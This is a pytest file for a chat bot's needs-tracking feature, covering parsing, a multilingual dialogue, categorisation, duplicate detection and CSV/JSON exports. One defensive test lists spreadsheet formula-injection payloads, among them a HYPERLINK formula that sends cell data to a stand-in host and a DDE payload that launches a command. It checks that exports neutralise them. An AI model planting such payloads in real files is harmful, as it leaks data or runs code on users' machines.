"""Needs' pure logic: parsing, filters, the guided dialogue, categorisation and duplicates, exports."""

import contextlib
import csv
import io
import json
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from rapidfuzz import fuzz

from bot.errors import UsageError
from handlers.needs import dialogue
from handlers.needs.categories import Categoriser, load_categories
from handlers.needs.export import to_csv, to_json
from handlers.needs.models import Need
from handlers.needs.parse import Filters, normalise, parse_filters, parse_id, parse_status, parse_text

DATA = Path(__file__).resolve().parents[1] / "needs"
SHARED = Categoriser(load_categories(None))


@pytest.fixture(scope="module")
def categories() -> Categoriser:
    return Categoriser(load_categories(None))


def test_shipped_categories(categories: Categoriser) -> None:
    assert [c.id for c in categories.categories] == [
        "impact-measurement",
        "ecosystem-mapping",
        "policy-dialogue",
        "financing",
        "stakeholder-engagement",
        "communication-dissemination",
        "capacity-building",
        "partnerships-collaboration",
        "grant-management",
    ]
    for category in categories.categories:
        assert set(category.keywords) == {"en", "fr", "de", "es", "it", "pl", "pt"}


def test_categorisation_generalises(categories: Categoriser) -> None:
    """On need statements written apart from the keywords, in seven languages: most land in the right place."""
    items = yaml.safe_load((DATA / "categorise_dev.yaml").read_text())
    right = sum(categories.suggest(i["text"], i["lang"])[0] == i["expect"] for i in items)
    assert right / len(items) >= 0.6, f"{right}/{len(items)}"


def similarity(a: str, b: str, lang: str) -> float:
    x, y = normalise(a, lang), normalise(b, lang)
    return 0.5 * fuzz.token_set_ratio(x, y) + 0.5 * fuzz.token_sort_ratio(x, y)


def test_duplicate_detection_catches_copies_and_rarely_flags_different_needs() -> None:
    """Lexical similarity (the path without the encoder) catches restated copies (reordered, typos). It flags
    about a third of the near needs that share most words but ask for something else, and reworded duplicates
    escape it: with the encoder on, the meaning decides (test_needs_eval.py)."""
    from handlers.needs.config import NeedsConfig

    threshold = NeedsConfig().duplicate_threshold
    pairs = yaml.safe_load((DATA / "duplicates_dev.yaml").read_text())
    for pair in pairs:
        words = pair["a"].split()
        copy = " ".join(words[1:] + words[:1]).replace("e", "é", 1)  # reordered, one accent typo
        assert similarity(pair["a"], copy, pair["lang"]) >= threshold, pair["a"]
    different = [p for p in pairs if not p["duplicate"]]
    flagged = [p for p in different if similarity(p["a"], p["b"], p["lang"]) >= threshold]
    assert len(flagged) <= 0.35 * len(different), flagged


def test_parsers() -> None:
    assert parse_text("  a   need \n text ", 100) == "a need text"
    with pytest.raises(UsageError, match="Tell me what"):
        parse_text("   ", 100)
    with pytest.raises(UsageError, match="keep a need under 10"):
        parse_text("x" * 11, 10)
    assert parse_id("#12") == 12 and parse_id("7") == 7
    with pytest.raises(UsageError, match="is not an id"):
        parse_id("twelve")
    assert parse_status("In_Progress") == "in-progress"
    with pytest.raises(UsageError, match="is not a status"):
        parse_status("done")


def test_filters(categories: Categoriser) -> None:
    assert parse_filters("", categories) == Filters()
    parsed = parse_filters("all category=financing country=Portugal since=2026-01-31", categories)
    assert parsed == Filters("all", "financing", "Portugal", date(2026, 1, 31))
    assert Filters.from_dict(parsed.as_dict()) == parsed
    assert parse_filters("category=4", categories).category == "financing"
    for bad, message in [
        ("since=31/01/2026", "is not a date"),
        ("category=finanse", "Did you mean"),
        ("colour=red", "is not a filter"),
        ("lots", "I don't understand"),
    ]:
        with pytest.raises(UsageError, match=message):
            parse_filters(bad, categories)


@given(st.text(max_size=80))
def test_filters_only_fail_with_usage_errors(text: str) -> None:
    cats = SHARED
    with contextlib.suppress(UsageError):
        parse_filters(text, cats)


def test_dialogue_walk_with_back_and_validation(categories: Categoriser) -> None:
    step = dialogue.start("Portugal")
    step = dialogue.advance(step.state, "We need a framework to measure our social impact", categories)
    assert step.state["step"] == "category" and "I suggest **Impact measurement**" in step.say
    step = dialogue.advance(step.state, "back", categories)
    assert step.state["step"] == "text"
    step = dialogue.advance(step.state, "We need a framework to measure our social impact", categories)
    step = dialogue.advance(step.state, "4", categories)
    assert step.state["category"] == "financing"
    with pytest.raises(UsageError, match="number from 1 to 4"):
        dialogue.advance(step.state, "soonish", categories)
    with pytest.raises(UsageError, match="in the past"):
        dialogue.advance(step.state, "2020-01-01", categories, today=date(2026, 11, 25))
    step = dialogue.advance(step.state, "2026-12-31", categories, today=date(2026, 11, 25))
    assert step.state["due_on"] == "2026-12-31" and "Last time you said **Portugal**" in step.say
    step = dialogue.advance(step.state, "ok", categories)
    assert step.state["country"] == "Portugal"
    with pytest.raises(UsageError, match="yes or no"):
        dialogue.advance(step.state, "maybe", categories)
    step = dialogue.advance(step.state, "oui", categories)
    assert step.state["contact_ok"] is True and "File this need?" in step.say
    done = dialogue.advance(step.state, "yes", categories)
    assert done.done and not done.cancelled
    assert dialogue.advance(step.state, "Cancel", categories).cancelled


@given(st.lists(st.text(max_size=40), max_size=8))
def test_dialogue_only_fails_with_usage_errors(answers: list[str]) -> None:
    cats = SHARED
    state = dialogue.start(None).state
    for answer in answers:
        try:
            step = dialogue.advance(state, answer, cats, today=date(2026, 11, 25))
        except UsageError:
            continue
        if step.done or step.cancelled:
            return
        state = step.state
        assert state["step"] in dialogue.STEPS


def make_need(**kw: object) -> Need:
    now = datetime(2026, 11, 25, 9, 30, tzinfo=UTC)
    values = {
        "id": 1,
        "user_id": "@a:x",
        "room_id": "!r:x",
        "text": 'Needs "quotes", commas; and ünïcödé',
        "norm": "",
        "lang": "en",
        "category": "financing",
        "status": "open",
        "supporters": 2,
        "contact_ok": False,
        "created_at": now,
        "updated_at": now,
    } | kw
    return Need(**values)


def test_csv_round_trips_and_hides_authors_who_did_not_agree() -> None:
    data = to_csv([make_need(), make_need(id=2, contact_ok=True)])
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets read UTF-8
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0]["text"] == 'Needs "quotes", commas; and ünïcödé'
    assert rows[0]["created_at"] == "2026-11-25T09:30:00+00:00"
    assert rows[0]["contact"] == "" and rows[1]["contact"] == "'@a:x"  # a Matrix id starts with @: kept as text
    assert json.loads(to_json([make_need()]))[0]["supporters"] == 2


def test_dialogue_speaks_the_members_language(categories: Categoriser) -> None:
    step = dialogue.start(None, "fr")
    assert step.say.startswith("De quoi votre NCC a-t-il besoin ?")
    step = dialogue.advance(step.state, "Nous cherchons un cadre pour mesurer notre impact social", categories)
    assert "Je propose **" in step.say and "`back`" in step.say
    step = dialogue.advance(step.state, "ok", categories)
    assert "d'ici un mois" in step.say
    step = dialogue.advance(step.state, "3", categories)
    assert step.state["urgency"] == "within a month"  # stored the same whatever the language
    step = dialogue.advance(step.state, "Belgique", categories)
    step = dialogue.advance(step.state, "non", categories)
    assert "Urgence : d'ici un mois" in step.say and "Contact par un coordinateur : non" in step.say
    assert dialogue.advance(step.state, "cancel", categories).say.startswith("Annulé")
    polish = dialogue.start("Polska", "pl")
    assert polish.state["lang"] == "pl" and "Czego potrzebuje" in polish.say


@pytest.mark.parametrize(
    "evil",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "-2+3",
        "\t=1",
        "\r=1",
    ],
)
def test_csv_cells_never_become_formulas(evil: str) -> None:
    import csv
    import io

    from handlers.events.models import Event
    from handlers.events.render import to_csv as events_csv

    need = Need(
        id=1,
        user_id=None,
        room_id="!r:x",
        text=evil,
        norm="",
        lang="en",
        category="financing",
        status="open",
        country=evil,
        status_note=evil,
        supporters=0,
        contact_ok=False,
        created_at=datetime(2027, 1, 1, tzinfo=UTC),
        updated_at=datetime(2027, 1, 1, tzinfo=UTC),
    )
    event = Event(
        id=1, room_id="!r:x", title=evil, place=evil, description=evil, starts_at=datetime(2027, 1, 1, tzinfo=UTC)
    )
    for data in (to_csv([need]), events_csv([event])):
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert evil not in cells and "'" + evil in cells
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)


def test_exports_name_a_dm_only_as_a_direct_message() -> None:
    import csv
    import io

    from handlers.needs.export import hiding_direct

    needs = [
        Need(
            id=n,
            user_id=None,
            room_id=room,
            text="t",
            norm="",
            lang="en",
            category="financing",
            status="open",
            supporters=0,
            contact_ok=False,
            created_at=datetime(2027, 1, 1, tzinfo=UTC),
            updated_at=datetime(2027, 1, 1, tzinfo=UTC),
        )
        for n, room in ((1, "!dm:x"), (2, "!group:x"))
    ]
    data = to_csv(needs, hiding_direct(lambda room: room == "!dm:x"))
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r["room_id"] for r in rows] == ["direct message", "!group:x"]
    assert [r["id"] for r in rows] == ["1", "2"] and all(r["category"] == "financing" for r in rows)  # in place
    assert "!dm:x" not in to_json(needs, hiding_direct(lambda room: room == "!dm:x")).decode()

